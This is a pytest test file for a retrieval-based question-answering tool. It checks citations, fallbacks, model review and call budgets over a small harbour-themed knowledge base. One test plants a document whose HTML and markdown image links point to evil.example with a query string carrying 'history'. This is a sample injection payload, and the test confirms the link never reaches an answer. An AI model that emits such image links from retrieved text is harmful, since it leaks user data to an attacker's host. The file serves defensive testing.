"""Questions over a real base, from the search to the numbered answer."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from lorebase.answering.over_retrieval import AskOptions
from lorebase.answering.ready_checks.claims import cited_numbers
from lorebase.errors import OperationCancelledError, UnavailableError, UsageError
from lorebase.models.chat import ChatRequest
from lorebase.operation import Cancellation, OperationContext
from tests.answering.over_retrieval.ask_scene import (
    BERTH,
    BERTH_ZH,
    NOTHING,
    QUOTING,
    base_in,
    is_review,
    judged,
    not_found,
    playing,
    said,
)
from tests.fakes.scripted_chat import ScriptedChat
from tests.fakes.workspace import recipe_in

DOWN = UnavailableError("The endpoint does not answer.", dependency="fake")


async def test_without_a_chat_model_the_evidence_is_quoted_with_its_source(tmp_path: Path) -> None:
    """X-04: answerable evidence is ready."""
    async with await base_in(tmp_path) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind, answered.source_status) == ("accepted", "quoted", "ready")
    assert answered.text == "A berth costs nine crowns a night. [1]"
    (source,) = answered.sources
    assert (source.document.name, source.citation.heading_path) == ("harbour.md", ("Harbour", "Fees"))
    assert (answered.generator, answered.model, answered.usage.calls) == ("extractive", "", 0)


async def test_a_chinese_question_gets_a_chinese_answer(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        answered = await base.ask(BERTH_ZH)

    assert (answered.status, answered.language) == ("accepted", "zh")
    assert answered.text == "泊位每晚收费九元。[1]"
    assert answered.sources[0].document.name == "港口.md"


async def test_a_row_is_quoted_under_the_header_of_its_table(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        answered = await base.ask("How many watts has the pier lamp?")

    assert answered.text == "- lamp | watts | colour [1]\n- pier lamp | 75 | white [1]"
    assert (answered.sources[0].citation.first_row, answered.sources[0].citation.last_row) == (1, 2)


@pytest.mark.parametrize(
    ("question", "text"),
    [
        (NOTHING, "The knowledge base holds no evidence for an answer to this question."),
        ("歌剧院的穹顶是谁画的？", "知识库中没有可以回答这个问题的依据。"),
    ],
)
async def test_without_evidence_the_answer_says_so_and_no_model_is_asked(
    tmp_path: Path, question: str, text: str
) -> None:
    """K-068, K-070, C151."""
    chat = ScriptedChat([said(("It was painted by a sailor.", [1]))])
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(question)

    assert (answered.status, answered.kind, answered.source_status) == ("fallback", "no_evidence", "unavailable")
    assert (answered.text, answered.sources, chat.calls) == (text, (), 0)
    assert [issue.code for issue in answered.issues] == ["SOURCE_UNAVAILABLE"]


@pytest.mark.parametrize(
    ("question", "told"),
    [
        ("What is this collection about?", "Name a subject"),
        ("hello", "Name a subject"),
        ("这个资料库讲什么？", "请写明要问的对象"),
    ],
)
async def test_a_question_that_names_nothing_is_told_to_name_a_subject_and_where_to_see_what_the_base_holds(
    tmp_path: Path, question: str, told: str
) -> None:
    chat = ScriptedChat([said(("A berth costs nine crowns.", [1]))])
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(question)

    assert (answered.status, answered.kind, answered.source_status) == ("fallback", "no_subject", "unavailable")
    assert told in answered.text
    assert "`lorebase status`" in answered.text
    assert (answered.sources, answered.needs_person, chat.calls) == ((), False, 0)


async def test_a_model_writes_the_answer_and_reviews_it(tmp_path: Path) -> None:
    chat = ScriptedChat(playing([said(("A berth costs nine crowns.", [1]))]))
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind, answered.model) == ("accepted", "written", "scripted")
    assert answered.text == "A berth costs nine crowns. [1]"
    assert answered.checks.review.status == "passed"
    assert [is_review(request) for request in chat.requests] == [False, True]
    assert (answered.usage.calls, {request.session_id for request in chat.requests}) == (2, {"knowledge:demo"})


async def test_the_prompt_speaks_the_language_of_the_question_and_frames_the_evidence_as_data(tmp_path: Path) -> None:
    chat = ScriptedChat(playing([said(("泊位每晚收费九元。", [1]))]))
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH_ZH)

    assert answered.text == "泊位每晚收费九元。[1]"
    assert "你根据知识库" in chat.requests[0].system
    assert chat.requests[0].turns[-1].text.startswith("<text-")


async def test_an_uncited_claim_is_repaired(tmp_path: Path) -> None:
    chat = ScriptedChat(playing([said(("A berth costs nine crowns.", [])), said(("A berth costs nine crowns.", [1]))]))
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.text) == ("accepted", "A berth costs nine crowns. [1]")
    assert [is_review(request) for request in chat.requests] == [False, False, True]
    assert "cites no passage" in chat.requests[1].turns[-1].text


async def test_a_foreign_citation_that_is_not_repaired_ends_in_a_quote(tmp_path: Path) -> None:
    """X-05: a fallback quotes what was retrieved."""
    chat = ScriptedChat(playing([said(("A berth costs nine crowns.", [77]))]))
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind) == ("fallback", "quoted")
    assert answered.text == "A berth costs nine crowns a night. [1]"
    assert [issue.code for issue in answered.issues] == ["UNKNOWN_CITATION"]
    assert chat.calls == 2


async def test_an_invented_figure_ends_in_a_quote(tmp_path: Path) -> None:
    chat = ScriptedChat(playing([said(("A berth costs 25 crowns a night.", [1]))]))
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.text) == ("fallback", "A berth costs nine crowns a night. [1]")
    assert [issue.code for issue in answered.issues] == ["UNSUPPORTED_FIGURE"]


async def test_what_the_review_does_not_support_is_written_again(tmp_path: Path) -> None:
    chat = ScriptedChat(
        playing(
            [said(("A berth does not cost nine crowns.", [1])), said(("A berth costs nine crowns.", [1]))],
            [judged(False), judged(True)],
        )
    )
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.text) == ("accepted", "A berth costs nine crowns. [1]")
    assert chat.calls == 4


async def test_a_required_review_that_cannot_be_had_lets_nothing_through(tmp_path: Path) -> None:
    chat = ScriptedChat(playing([said(("A berth costs nine crowns.", [1]))], [DOWN]))
    async with await base_in(tmp_path, chat=chat) as base:
        required = await base.ask(BERTH, options=AskOptions(review="required"))
        optional = await base.ask(BERTH, options=AskOptions(review="optional"))

    assert (required.status, required.kind) == ("fallback", "quoted")
    assert [issue.code for issue in required.issues] == ["REVIEW_UNAVAILABLE"]
    assert (required.checks.review.status, optional.status) == ("failed", "accepted")


async def test_a_model_that_finds_no_answer_in_the_passages_is_believed(tmp_path: Path) -> None:
    chat = ScriptedChat([not_found()])
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind, answered.sources) == ("fallback", "no_evidence", ())
    assert [issue.code for issue in answered.issues] == ["NOT_IN_EVIDENCE"]
    assert chat.calls == 1


async def test_a_model_that_is_down_leaves_quotes_of_the_evidence(tmp_path: Path) -> None:
    """X-06, K-069: an outage is never "no evidence"."""
    chat = ScriptedChat([DOWN])
    async with await base_in(tmp_path, chat=chat) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind, answered.source_status) == ("fallback", "quoted", "ready")
    assert [issue.code for issue in answered.issues] == ["MODEL_UNAVAILABLE"]
    assert answered.text == "A berth costs nine crowns a night. [1]"


async def test_a_search_that_fails_raises(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """K-069."""
    async with await base_in(tmp_path) as base:

        async def fail(*_: object, **__: object) -> None:
            raise DOWN

        monkeypatch.setattr(base, "query", fail)
        with pytest.raises(UnavailableError):
            await base.answer([BERTH, BERTH_ZH])


async def test_instructions_and_images_in_the_evidence_reach_no_answer(tmp_path: Path) -> None:
    """C156."""
    evil = "# Tide\n\nThe tide turns at ten <img src=http://evil.example/?info=history>. The tide is high in May.\n"
    image = "The tide turns at ten ![x](http://evil.example/?info=history)."
    chat = ScriptedChat(playing([said((image, [1]))]))
    async with await base_in(tmp_path, chat=chat, extra={"tide.md": evil}) as base:
        answered = await base.ask("When does the tide turn?")
        quoted = await base.ask("When does the tide turn?", options=AskOptions(generator="extractive"))

    assert answered.status == "fallback"
    assert {issue.code for issue in answered.issues} >= {"IMAGE_OUTSIDE_EVIDENCE"}
    assert "evil.example" not in answered.text + quoted.text
    assert quoted.text == "The tide is high in May. [1]"


async def test_documents_that_contradict_each_other_are_quoted_against_each_other(tmp_path: Path) -> None:
    """X-04, C160."""
    chat = ScriptedChat([said(("A berth costs nine crowns.", [1]))])
    extra = {"notice.md": "# Notice\n\nA berth costs twelve crowns a night.\n"}
    async with await base_in(tmp_path, chat=chat, extra=extra) as base:
        answered = await base.ask(BERTH)

    assert (answered.status, answered.kind, answered.source_status) == ("fallback", "contradiction", "conflict")
    first, *quotes = answered.text.splitlines()
    assert first == "The documents contradict each other here:"
    assert sorted(line[2:-4] for line in quotes) == [
        "A berth costs nine crowns a night.",
        "A berth costs twelve crowns a night.",
    ]
    assert {source.document.name for source in answered.sources} == {"harbour.md", "notice.md"}
    assert chat.calls == 0


async def test_several_questions_are_answered_in_their_order(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        answers = await base.answer([NOTHING, BERTH_ZH, "rebuild the index", BERTH])

    assert [answer.kind for answer in answers] == ["no_evidence", "quoted", "instead", "quoted"]
    assert [answer.question for answer in answers] == [NOTHING, BERTH_ZH, "rebuild the index", BERTH]
    assert answers[2].text == "To build the base again use `lorebase build`."
    assert answers[2].predicate == "rebuild_knowledge"


async def test_only_the_failed_answer_is_written_again(tmp_path: Path) -> None:
    def answer(request: ChatRequest) -> str:
        text = request.turns[-1].text
        if "ferry" in text.splitlines()[1]:
            return said(("The ferry to the island leaves at noon.", [1] if "former_answer" in text else []))
        return said(("A berth costs nine crowns.", [1]))

    chat = ScriptedChat(answer)
    async with await base_in(tmp_path, chat=chat) as base:
        answers = await base.answer([BERTH, "When does the ferry leave?"], options=AskOptions(review="off"))

    assert [answer.status for answer in answers] == ["accepted", "accepted"]
    assert [answer.usage.calls for answer in answers] == [1, 2]
    assert chat.calls == 3


async def test_the_budget_of_calls_is_shared_by_all_questions(tmp_path: Path) -> None:
    chat = ScriptedChat([said(("A berth costs nine crowns.", [1]))])
    async with await base_in(tmp_path, chat=chat) as base:
        answers = await base.answer(
            [BERTH, "When does the ferry leave?"], options=AskOptions(max_calls=1, review="off")
        )

    assert [(answer.status, answer.kind) for answer in answers] == [("accepted", "written"), ("fallback", "quoted")]
    assert answers[1].text == "The ferry to the island leaves at noon. [1]"
    assert "MODEL_BUDGET_EXHAUSTED" in {issue.code for issue in answers[1].issues}
    assert chat.calls == 1


async def test_fifty_questions_at_once_each_get_their_own_answer(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        asked = [BERTH if number % 2 else BERTH_ZH for number in range(50)]
        answers = await asyncio.gather(*(base.ask(question) for question in asked))

    assert [answer.language for answer in answers] == ["en" if number % 2 else "zh" for number in range(50)]
    assert {answer.status for answer in answers} == {"accepted"}
    assert len({answer.sources[0].snapshot_id for answer in answers}) == 2


async def test_what_is_cited_stands_in_its_document_and_its_reading_is_pinned(tmp_path: Path) -> None:
    """X-01, C155."""
    async with await base_in(tmp_path) as base:
        first = await base.ask(BERTH)
        found = await base.query(BERTH, mode="full_text_search")
        (tmp_path / "documents" / "harbour.md").write_text(
            "# Harbour\n\n## Fees\n\nA berth costs ten crowns a night.\n"
        )
        await base.rebuild(recipe_in(tmp_path, QUOTING))
        second = await base.ask(BERTH)

    result = next(result for result in found.results if result.chunk_id == first.sources[0].chunk_id)
    assert first.sources[0].text == result.text
    assert first.sources[0].revision_id == result.document.revision_id != ""
    assert second.text == "A berth costs ten crowns a night. [1]"
    assert second.sources[0].revision_id != first.sources[0].revision_id
    assert second.sources[0].snapshot_id != first.sources[0].snapshot_id


async def test_numbers_count_in_the_order_of_their_use_and_agree_with_the_sources(tmp_path: Path) -> None:
    extra = {"fees.md": "# Fees\n\nA berth at the pier costs 6 crowns a night in winter.\n"}
    sentences = said(("A berth costs nine crowns a night.", [2]), ("A berth at the pier costs 6 crowns.", [1]))
    swapped = said(("A berth costs nine crowns a night.", [1]), ("A berth at the pier costs 6 crowns.", [2]))
    chat = ScriptedChat(playing([sentences, swapped]))
    async with await base_in(tmp_path, chat=chat, extra=extra) as base:
        answered = await base.ask(BERTH, options=AskOptions(review="off"))

    assert (answered.status, cited_numbers(answered.text)) == ("accepted", (1, 2))
    assert [source.document.name for source in answered.sources] == ["harbour.md", "fees.md"]


async def test_a_signal_stops_the_run(tmp_path: Path) -> None:
    signal = Cancellation()
    signal.cancel("enough")
    async with await base_in(tmp_path) as base:
        with pytest.raises(OperationCancelledError):
            await base.ask(BERTH, context=OperationContext(app=None, signal=signal))


@pytest.mark.parametrize(
    "options", [AskOptions(generator="chat"), AskOptions(review="required"), AskOptions(review="optional")]
)
async def test_options_that_need_a_chat_model_are_refused_without_one(tmp_path: Path, options: AskOptions) -> None:
    async with await base_in(tmp_path) as base:
        with pytest.raises(UsageError, match="no chat model"):
            await base.ask(BERTH, options=options)


async def test_a_blank_question_is_refused(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        with pytest.raises(UsageError):
            await base.answer([BERTH, "  "])


async def test_an_answer_is_json_and_comes_back_the_same(tmp_path: Path) -> None:
    async with await base_in(tmp_path) as base:
        answered = await base.ask(BERTH)

    assert type(answered).model_validate_json(answered.model_dump_json()) == answered
    assert json.loads(answered.model_dump_json())["sources"][0]["number"] == 1
